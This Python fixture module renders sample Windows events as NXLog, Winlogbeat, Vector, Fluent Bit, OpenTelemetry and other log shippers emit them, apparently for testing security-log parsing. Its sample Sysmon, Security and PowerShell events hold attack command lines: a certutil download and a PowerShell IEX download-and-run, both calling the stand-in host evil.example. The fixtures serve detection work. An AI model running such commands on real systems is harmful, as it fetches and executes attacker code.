"""One Windows event as each shipper sends it, after the shippers' documentation.

NXLog: the reference of im_msvistalog and xm_json. Winlogbeat: Elastic's list of exported fields, modules included.
Vector: the reference of `windows_event_log`. Fluent Bit: in_winevtlog and out_kafka. OpenTelemetry: the README of the
windowseventlog receiver. EVTX: the JSON of evtx_dump.
"""

from __future__ import annotations

from collections.abc import Callable
from datetime import UTC, datetime, timedelta, timezone
from typing import Any, NamedTuple

SYSMON = "Microsoft-Windows-Sysmon/Operational"
ALMATY = timezone(timedelta(hours=5))


class WindowsEvent(NamedTuple):
    """An event apart from how it is shipped. `data`: EventData in the manifest's order, all as text."""

    channel: str
    provider: str
    number: int
    data: dict[str, str]
    time_ms: int = 1_791_738_855_000
    computer: str = "ws-017.bank.example"
    message: str = "What the provider says of it."

    @property
    def at(self) -> datetime:
        return datetime.fromtimestamp(self.time_ms / 1000, UTC)

    @property
    def iso(self) -> str:
        return self.at.isoformat(timespec="milliseconds").replace("+00:00", "Z")


def evtx(one: WindowsEvent) -> dict[str, Any]:
    """evtx_dump -o jsonl: numbers are numbers."""
    return {
        "Event": {
            "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
            "System": {
                "Provider": {"#attributes": {"Name": one.provider, "Guid": "5770385F-C22A-43E0-BF4C-06F5698FFBD9"}},
                "EventID": one.number,
                "Version": 5,
                "Level": 4,
                "Task": 1,
                "Opcode": 0,
                "Keywords": "0x8000000000000000",
                "TimeCreated": {"#attributes": {"SystemTime": one.iso}},
                "EventRecordID": 7,
                "Correlation": None,
                "Execution": {"#attributes": {"ProcessID": 3308, "ThreadID": 4008}},
                "Channel": one.channel,
                "Computer": one.computer,
                "Security": {"#attributes": {"UserID": "S-1-5-18"}},
            },
            "EventData": {name: int(value) if value.isdigit() else value for name, value in one.data.items()},
        }
    }


def evtx_separated(one: WindowsEvent) -> dict[str, Any]:
    """evtx_dump --separate-json-attributes."""
    whole = evtx(one)["Event"]
    system = whole["System"]
    for name in ("Provider", "TimeCreated", "Execution", "Security"):
        system[f"{name}_attributes"] = system.pop(name)["#attributes"]
    return {"Event": {"System": system, "EventData": whole["EventData"]}}


def evtx_of_python(one: WindowsEvent) -> dict[str, Any]:
    """An event's XML by xmltodict: attributes with @, all as text."""
    return {
        "Event": {
            "System": {
                "Provider": {"@Name": one.provider},
                "EventID": {"@Qualifiers": "", "#text": str(one.number)},
                "TimeCreated": {"@SystemTime": one.iso},
                "EventRecordID": "7",
                "Channel": one.channel,
                "Computer": one.computer,
            },
            "EventData": {"Data": [{"@Name": name, "#text": value} for name, value in one.data.items()]},
        }
    }


def nxlog(one: WindowsEvent) -> dict[str, Any]:
    """im_msvistalog, to_json(); EventTime without a zone is the machine's, here the bank's."""
    return {
        "EventTime": one.at.astimezone(ALMATY).strftime("%Y-%m-%d %H:%M:%S"),
        "Hostname": one.computer,
        "Keywords": -9223372036854775808,
        "EventType": "INFO",
        "SeverityValue": 2,
        "Severity": "INFO",
        "EventID": one.number,
        "SourceName": one.provider,
        "ProviderGuid": "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}",
        "Version": 5,
        "Task": 1,
        "OpcodeValue": 0,
        "RecordNumber": 7,
        "ExecutionProcessID": 3308,
        "ExecutionThreadID": 4008,
        "Channel": one.channel,
        "Message": one.message,
        **one.data,
        "EventReceivedTime": "2026-10-11 22:14:17",
        "SourceModuleName": "eventlog",
        "SourceModuleType": "im_msvistalog",
    }


def nxlog_zoned(one: WindowsEvent) -> dict[str, Any]:
    """NXLog 5 with a DateFormat that has fraction and zone; EventID as text."""
    return nxlog(one) | {
        "EventTime": one.at.astimezone(ALMATY).isoformat("T", "microseconds"),
        "EventID": str(one.number),
    }


def nxlog_received(one: WindowsEvent) -> dict[str, Any]:
    """Names as a route may give them before xm_json, and only the time of receipt, as epoch milliseconds."""
    doc = nxlog(one)
    doc["Computer"], doc["Provider_Name"] = doc.pop("Hostname"), doc.pop("SourceName")
    del doc["EventTime"]
    return doc | {"EventReceivedTime": one.time_ms}


def winlogbeat(one: WindowsEvent) -> dict[str, Any]:
    """Winlogbeat 7 and later without modules; event_id is text."""
    return {
        "@timestamp": one.iso,
        "winlog": {
            "channel": one.channel,
            "event_id": str(one.number),
            "computer_name": one.computer,
            "provider_name": one.provider,
            "provider_guid": "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}",
            "record_id": 7,
            "opcode": "Info",
            "process": {"pid": 3308, "thread": {"id": 4008}},
            "event_data": dict(one.data),
            "api": "wineventlog",
        },
        "event": {"code": str(one.number), "kind": "event", "provider": one.provider},
        "host": {"name": one.computer.partition(".")[0], "os": {"family": "windows"}},
        "agent": {"type": "winlogbeat", "version": "8.11.0"},
        "ecs": {"version": "8.0.0"},
        "log": {"level": "information"},
        "message": one.message,
    }


def winlogbeat_6(one: WindowsEvent) -> dict[str, Any]:
    """Winlogbeat 5 and 6."""
    return {
        "@timestamp": one.iso,
        "beat": {"hostname": "ws-017", "name": "ws-017", "version": "6.8.0"},
        "computer_name": one.computer,
        "event_data": dict(one.data),
        "event_id": one.number,
        "level": "Information",
        "log_name": one.channel,
        "message": one.message,
        "record_number": "7",
        "source_name": one.provider,
        "type": "wineventlog",
    }


def winlogbeat_flattened(one: WindowsEvent) -> dict[str, Any]:
    """As an Elasticsearch index exports it: one level, dotted names."""
    head = winlogbeat(one)["winlog"]
    flat = {f"winlog.{name}": value for name, value in head.items() if not isinstance(value, dict)}
    flat |= {f"winlog.event_data.{name}": value for name, value in one.data.items()}
    return {"@timestamp": one.iso, "event.code": str(one.number), "message": one.message, **flat}


def elastic_agent(one: WindowsEvent) -> dict[str, Any]:
    """Elastic Agent: Winlogbeat's record with a data stream, `event.code` alone as the number."""
    doc = winlogbeat(one)
    del doc["winlog"]["event_id"]
    return doc | {"data_stream": {"type": "logs", "dataset": "system.security", "namespace": "default"}}


def vector(one: WindowsEvent) -> dict[str, Any]:
    """Vector's windows_event_log."""
    return {
        "source_type": "windows_event_log",
        "timestamp": one.iso,
        "channel": one.channel,
        "event_id": one.number,
        "provider_name": one.provider,
        "provider_guid": "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}",
        "computer": one.computer,
        "record_id": 7,
        "level": "Information",
        "level_value": 4,
        "task": 1,
        "opcode": 0,
        "keywords": "0x8000000000000000",
        "process_id": 3308,
        "thread_id": 4008,
        "version": 5,
        "event_data": dict(one.data),
        "message": one.message,
    }


def vector_inserts(one: WindowsEvent) -> dict[str, Any]:
    """The same where the values have no names."""
    doc = vector(one)
    del doc["event_data"]
    return doc | {"string_inserts": list(one.data.values())}


def fluent_bit(one: WindowsEvent) -> dict[str, Any]:
    """in_winevtlog through out_kafka: @timestamp is a double and the time of reading."""
    return {
        "@timestamp": one.time_ms / 1000 + 2.25,
        "ProviderName": one.provider,
        "ProviderGuid": "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}",
        "Qualifiers": "",
        "EventID": one.number,
        "Version": 5,
        "Level": 4,
        "Task": 1,
        "Opcode": 0,
        "Keywords": "0x8000000000000000",
        "TimeCreated": one.at.astimezone(ALMATY).strftime("%Y-%m-%d %H:%M:%S %z"),
        "EventRecordID": 7,
        "ActivityID": "",
        "RelatedActivityID": "",
        "ProcessID": 3308,
        "ThreadID": 4008,
        "Channel": one.channel,
        "Computer": one.computer,
        "UserID": "NT AUTHORITY\\SYSTEM",
        "Message": one.message,
        "StringInserts": list(one.data.values()),
    }


def fluent_bit_named(one: WindowsEvent) -> dict[str, Any]:
    """The same with the option that keeps the names."""
    doc = fluent_bit(one)
    del doc["StringInserts"]
    return doc | {"EventData": dict(one.data)}


def fluent_bit_classic(one: WindowsEvent) -> dict[str, Any]:
    """in_winlog, of the older API."""
    return {
        "@timestamp": one.iso,
        "RecordNumber": 7,
        "TimeGenerated": one.at.astimezone(ALMATY).strftime("%Y-%m-%d %H:%M:%S %z"),
        "TimeWritten": one.at.astimezone(ALMATY).strftime("%Y-%m-%d %H:%M:%S %z"),
        "EventID": one.number,
        "Qualifiers": 0,
        "EventType": "Information",
        "EventCategory": 1,
        "Channel": one.channel,
        "SourceName": one.provider,
        "ComputerName": one.computer,
        "Data": "",
        "Sid": "",
        "Message": one.message,
        "StringInserts": list(one.data.values()),
    }


def fluentd(one: WindowsEvent) -> dict[str, Any]:
    """fluent-plugin-windows-eventlog, in_windows_eventlog2."""
    doc = fluent_bit(one)
    doc["Description"] = doc.pop("Message")
    doc["EventID"] = str(one.number)
    doc["EventData"] = doc.pop("StringInserts")
    return doc


def opentelemetry(one: WindowsEvent) -> dict[str, Any]:
    """The body of a record of the windowseventlog receiver."""
    return {
        "channel": one.channel,
        "computer": one.computer,
        "event_id": {"id": one.number, "qualifiers": 0},
        "keywords": ["0x8000000000000000"],
        "level": "Information",
        "message": one.message,
        "opcode": "Info",
        "provider": {"event_source": "", "guid": "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}", "name": one.provider},
        "record_id": 7,
        "system_time": one.iso,
        "task": "1",
        "event_data": {"data": [{name: value} for name, value in one.data.items()]},
    }


def log_store(one: WindowsEvent) -> dict[str, Any]:
    """Names of log stores (Splunk's, Windows Event Forwarding's)."""
    return {
        "LogName": one.channel,
        "EventCode": str(one.number),
        "SourceName": one.provider,
        "ComputerName": one.computer,
        "_time": one.iso,
        "Message": one.message,
        **one.data,
    }


def powershell_json(one: WindowsEvent) -> dict[str, Any]:
    """Get-WinEvent | ConvertTo-Json of Windows PowerShell."""
    return {
        "Id": one.number,
        "LogName": one.channel,
        "ProviderName": one.provider,
        "MachineName": one.computer,
        "TimeCreated": f"/Date({one.time_ms})/",
        "Message": one.message,
        "Properties": [{"Value": value} for value in one.data.values()],
    }


#: Every spelling, and the format that it is told as.
SHIPPERS: dict[str, tuple[str, Callable[[WindowsEvent], dict[str, Any]]]] = {
    "EVTX JSON": ("evtx", evtx),
    "EVTX JSON, separated attributes": ("evtx", evtx_separated),
    "EVTX by xmltodict": ("evtx", evtx_of_python),
    "NXLog": ("nxlog", nxlog),
    "NXLog, zoned": ("nxlog", nxlog_zoned),
    "NXLog, renamed": ("nxlog", nxlog_received),
    "Winlogbeat": ("winlogbeat", winlogbeat),
    "Winlogbeat 6": ("winlogbeat", winlogbeat_6),
    "Winlogbeat, flattened": ("winlogbeat", winlogbeat_flattened),
    "Elastic Agent": ("winlogbeat", elastic_agent),
    "Vector": ("vector", vector),
    "Vector, values alone": ("vector", vector_inserts),
    "Fluent Bit": ("fluent", fluent_bit),
    "Fluent Bit, named": ("fluent", fluent_bit_named),
    "Fluent Bit, winlog": ("fluent", fluent_bit_classic),
    "Fluentd": ("fluent", fluentd),
    "OpenTelemetry": ("otel", opentelemetry),
    "log store": ("windows", log_store),
    "Get-WinEvent": ("windows", powershell_json),
}

_HASHES = "SHA1=" + "A1" * 20 + ",MD5=" + "B2" * 16 + ",SHA256=" + "C3" * 32 + ",IMPHASH=" + "D4" * 16
_DANA = {
    "SubjectUserSid": "S-1-5-18",
    "SubjectUserName": "WS-017$",
    "SubjectDomainName": "BANK",
    "SubjectLogonId": "0x3e7",
}

EVENTS = {
    "Sysmon 1": WindowsEvent(
        SYSMON,
        "Microsoft-Windows-Sysmon",
        1,
        {
            "RuleName": "-",
            "UtcTime": "2026-10-11 17:14:15.000",
            "ProcessGuid": "{f51ddac1-99b3-63c6-bb01-00000000e100}",
            "ProcessId": "5216",
            "Image": "C:\\Windows\\System32\\certutil.exe",
            "FileVersion": "10.0.20348.1",
            "Description": "CertUtil.exe",
            "Product": "Microsoft Windows Operating System",
            "Company": "Microsoft Corporation",
            "OriginalFileName": "CertUtil.exe",
            "CommandLine": "certutil -urlcache -f http://evil.example/p.exe",
            "CurrentDirectory": "C:\\Users\\dana\\",
            "User": "BANK\\dana",
            "LogonGuid": "{f51ddac1-8b43-63c6-6de9-0c0000000000}",
            "LogonId": "0xce96d",
            "TerminalSessionId": "2",
            "IntegrityLevel": "High",
            "Hashes": _HASHES,
            "ParentProcessGuid": "{f51ddac1-8d06-63c6-4d01-00000000e100}",
            "ParentProcessId": "7720",
            "ParentImage": "C:\\Windows\\explorer.exe",
            "ParentCommandLine": "C:\\Windows\\explorer.exe",
            "ParentUser": "BANK\\dana",
        },
    ),
    "Security 4624": WindowsEvent(
        "Security",
        "Microsoft-Windows-Security-Auditing",
        4624,
        {
            **_DANA,
            "TargetUserSid": "S-1-5-21-1-2-3-1104",
            "TargetUserName": "dana",
            "TargetDomainName": "BANK",
            "TargetLogonId": "0x1179c0da",
            "LogonType": "3",
            "LogonProcessName": "NtLmSsp ",
            "AuthenticationPackageName": "NTLM",
            "WorkstationName": "WS-044",
            "LogonGuid": "{00000000-0000-0000-0000-000000000000}",
            "TransmittedServices": "-",
            "LmPackageName": "NTLM V2",
            "KeyLength": "128",
            "ProcessId": "0x0",
            "ProcessName": "-",
            "IpAddress": "192.0.2.44",
            "IpPort": "50123",
            "ImpersonationLevel": "%%1833",
            "RestrictedAdminMode": "-",
            "TargetOutboundUserName": "-",
            "TargetOutboundDomainName": "-",
            "VirtualAccount": "%%1843",
            "TargetLinkedLogonId": "0x0",
            "ElevatedToken": "%%1842",
        },
        computer="dc1.bank.example",
    ),
    "Security 4688": WindowsEvent(
        "Security",
        "Microsoft-Windows-Security-Auditing",
        4688,
        {
            **_DANA,
            "NewProcessId": "0x1460",
            "NewProcessName": "C:\\Windows\\System32\\certutil.exe",
            "TokenElevationType": "%%1936",
            "ProcessId": "0x1e28",
            "CommandLine": "certutil -urlcache -f http://evil.example/p.exe",
            "TargetUserSid": "S-1-0-0",
            "TargetUserName": "dana",
            "TargetDomainName": "BANK",
            "TargetLogonId": "0xce96d",
            "ParentProcessName": "C:\\Windows\\explorer.exe",
            "MandatoryLabel": "S-1-16-12288",
        },
    ),
    "PowerShell 4104": WindowsEvent(
        "Microsoft-Windows-PowerShell/Operational",
        "Microsoft-Windows-PowerShell",
        4104,
        {
            "MessageNumber": "1",
            "MessageTotal": "1",
            "ScriptBlockText": "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')",
            "ScriptBlockId": "b1f0d5b6-6b0d-4b0f-9a39-0c3f1e6f8b11",
            "Path": "C:\\Users\\dana\\a.ps1",
        },
    ),
    "System 7045": WindowsEvent(
        "System",
        "Service Control Manager",
        7045,
        {
            "ServiceName": "PSEXESVC",
            "ImagePath": "%SystemRoot%\\PSEXESVC.exe",
            "ServiceType": "user mode service",
            "StartType": "demand start",
            "AccountName": "LocalSystem",
        },
    ),
}
"""Of each kind one, in the words of its provider."""
